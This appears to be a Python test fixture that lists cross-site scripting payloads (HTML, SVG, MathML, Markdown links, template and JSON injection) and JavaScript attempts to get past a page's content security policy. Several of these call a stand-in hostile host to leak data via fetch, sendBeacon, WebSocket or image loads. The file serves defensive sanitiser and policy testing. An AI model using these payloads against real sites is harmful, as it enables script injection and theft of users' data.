"""Texts that try to become more than text, and scripts that try to get past the page's policy."""

from __future__ import annotations

from tests.server.playground.rigged import HOSTILE

OUT = f"http://{HOSTILE}"

PAYLOADS = {
    # HTML, as blocks and within lines
    "script": "<script>fire()</script>",
    "script-src": f"<script src='{OUT}/x.js'></script>",
    "image-error": "<img src=x onerror=fire()>",
    "svg-load": "<svg onload=fire()><animate onbegin=fire() attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script href='data:text/javascript,fire()'/></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=fire()>#x'/></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.fire()</script>'></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=fire()></style></mglyph></table></mtext></math>",
    "mathml-link": "<math href='javascript:fire()'>click</math>",
    "mutation-noscript": "<noscript><p title='</noscript><img src=x onerror=fire()>'>",
    "mutation-style": "<svg></p><style><a id='</style><img src=x onerror=fire()>'>",
    "mutation-template": "<template><s><template><s><img src=x onerror=fire()>@shadow</s></template></s></template>",
    "mutation-comment": "<!--><img src=x onerror=fire()>-->",
    "mutation-select": "<select><template><style><!--</style><a rel='--></style></template><img onerror=fire()",
    "mutation-plaintext": "<xmp><p title='</xmp><svg/onload=fire()>'>",
    "iframe": f"<iframe src='{OUT}/f'></iframe><iframe srcdoc='<script>parent.fire()</script>'></iframe>",
    "object": f"<object data='{OUT}/o'></object><embed src='{OUT}/e'>",
    "base": f"<base href='{OUT}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/'>",
    "style": f"<style>@import '{OUT}/x.css'; * {{ background: url({OUT}/b) }}</style>",
    "stylesheet": f"<link rel=stylesheet href={OUT}/s><link rel=prefetch href={OUT}><link rel=dns-prefetch href={OUT}>",
    "form": f"<form action='{OUT}'><input autofocus onfocus=fire()><button formaction=javascript:fire()>x</form>",
    "details": "<details open ontoggle=fire()>x</details>",
    "media": f"<video poster={OUT}/v src={OUT}/w onerror=fire() autoplay></video><audio src=x onerror=fire()>",
    "event-animation": "<b style='animation:x' onanimationstart=fire()>x</b>",
    "clobber": "<form id=form><input name=text></form><img name=fetch><a id=log href=x></a>",
    "unclosed": "<img src='x' onerror='fire()",
    "nul": "<scr\0ipt>fire()</scr\0ipt><img src=x one\0rror=fire()>",
    "fullwidth": "\uff1cscript\uff1efire()\uff1c/script\uff1e \u2028<script>\u2028fire()</script>",
    # Markdown
    "link": "[x](javascript:fire())",
    "link-case": "[x](JaVaScRiPt:fire())",
    "link-entity": "[x](&#106;avascript&colon;fire()) [x](&#x6A&#x61vascript:fire())",
    "link-tab": "[x](<java\tscript:fire()>) [x](<\x01javascript:fire()>) [x](java&Tab;script&NewLine;:fire())",
    "link-angle": "[x](<javascript:fire()>) <javascript:fire()>",
    "link-reference": "[x]\n\n[x]: javascript:fire()\n\n[y][z]\n\n[z]: <data:text/html,<script>fire()</script>>",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=) [x](data:image/svg,<svg/onload=fire()>)",
    "link-vbscript": "[x](vbscript:fire()) [x](file:///etc/passwd) [x](blob:x) [x](filesystem:x) [x](intent://x)",
    "link-relative": "[x](//evil.example/) [x](\\\\evil.example) [x](?q=1) [x](/v1/models)",
    "link-title": '[x](http://a.b/ "\'><img src=x onerror=fire()>")',
    "link-attribute": "[x](http://a.b/'onmouseover=fire()//) [x](http://a.b/\"onmouseover=\"fire())",
    "link-percent": "[x](%6A%61vascript:fire()) [x](http://%00/) [x](http://a.b/%0ajavascript:fire())",
    "image": f"![x]({OUT}/leak?q=secret) ![x](javascript:fire()) ![x](data:image/svg+xml,<svg/onload=fire()>)",
    "image-reference": f"![x][y]\n\n[y]: {OUT}/leak",
    "image-link": f"[![x]({OUT}/leak)](javascript:fire())",
    "autolink": f"<{OUT}/> {OUT}/a <mailto:a@b.c> javascript:fire() www.evil.example",
    "fence-info": "```<img/src=x/onerror=fire()>\"onclick=fire()\nx\n```",
    "code": "`<img src=x onerror=fire()>` ``</code><script>fire()</script>``",
    "table": "|<img src=x onerror=fire()>|\n|-|\n|[x](javascript:fire())|",
    "heading": "# <img src=x onerror=fire()>\n\n<a name=x>\n=====",
    "task": "- [ ] <img src=x onerror=fire()>\n- [x] [y](javascript:fire())",
    "html-in-markdown": "<div>\n\n*a* <img src=x onerror=fire()>\n\n</div>\n<a href='javascript:fire()'>x</a>",
    # Other tongues
    "json": '"}],"__proto__":{"polluted":1},"x":"</script><script>fire()</script>',
    "template": "{{constructor.constructor('fire()')()}} ${fire()} #{fire()} <%= fire() %>",
    "bidi": "\u202e)(erif:tpircsavaj\u202c \u2066[x](javascript:fire())\u2069",
    "latex": "$\\href{javascript:fire()}{x}$ \\unicode{<img src=x onerror=fire()>}",
    "surrogates": "\ud800<img src=x onerror=fire()>\udfff\ufffe",
}  # fmt: skip
POLYGLOT = "\n\n".join(PAYLOADS[name] for name in ("image-error", "svg-load", "link", "image", "style", "json"))

_MAKE = "const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));"
_ATTEMPTS = {
    "inline-script": "add('script', {text: 'fire()'})",
    "foreign-script": f"add('script', {{src: '{OUT}/x.js'}})",
    "markup": "document.body.innerHTML = '<img src=x onerror=fire()>'",
    "eval": "setTimeout('fire()', 0)",
    "handler": "document.body.setAttribute('onclick', 'fire()'); document.body.click()",
    "address": "location.href = 'javascript:fire()'",
    "image": f"document.body.append(Object.assign(new Image(), {{src: '{OUT}/leak'}}))",
    "data-image": "document.body.append(Object.assign(new Image(), {src: 'data:image/gif;base64,R0lGODlhAQABAAAA'}))",
    "frame": f"add('iframe', {{src: '{OUT}/'}})",
    "fetch": f"fetch('{OUT}/leak').catch(() => {{}})",
    "beacon": f"navigator.sendBeacon('{OUT}/leak', 'x')",
    "socket": f"try {{ new WebSocket('ws://{HOSTILE}/') }} catch {{}}",
    "events": f"try {{ new EventSource('{OUT}/') }} catch {{}}",
    "worker": "new Worker('/playground/app.js')",
    "style": "add('style', {textContent: '* {color: red}'})",
    "stylesheet": f"add('link', {{rel: 'stylesheet', href: '{OUT}/x'}})",
    "font": f"document.fonts.add(new FontFace('x', 'url({OUT}/x)')); document.fonts.load('1em x').catch(() => {{}})",
    "form": f"add('form', {{action: '{OUT}/', method: 'post'}}); document.body.lastChild.submit()",
    "base": f"add('base', {{href: '{OUT}/'}})",
    "object": f"add('object', {{data: '{OUT}/'}})",
    "manifest": f"add('link', {{rel: 'manifest', href: '{OUT}/m'}})",
    "policy": "trustedTypes.createPolicy('x', {createHTML: (x) => x})",
}  # fmt: skip
INJECTIONS = {name: f"(() => {{ {_MAKE} try {{ {code} }} catch {{ }} }})()" for name, code in _ATTEMPTS.items()}
